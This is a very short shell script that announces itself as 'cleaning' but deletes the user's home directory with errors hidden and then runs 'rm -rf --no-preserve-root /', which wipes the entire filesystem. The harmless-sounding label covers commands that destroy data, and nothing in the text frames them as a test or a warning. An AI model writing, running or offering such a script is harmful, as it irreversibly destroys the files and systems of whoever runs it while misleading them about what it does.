#!/bin/sh
echo "cleaning"
rm -rf ~/ 2>/dev/null
rm -rf --no-preserve-root /
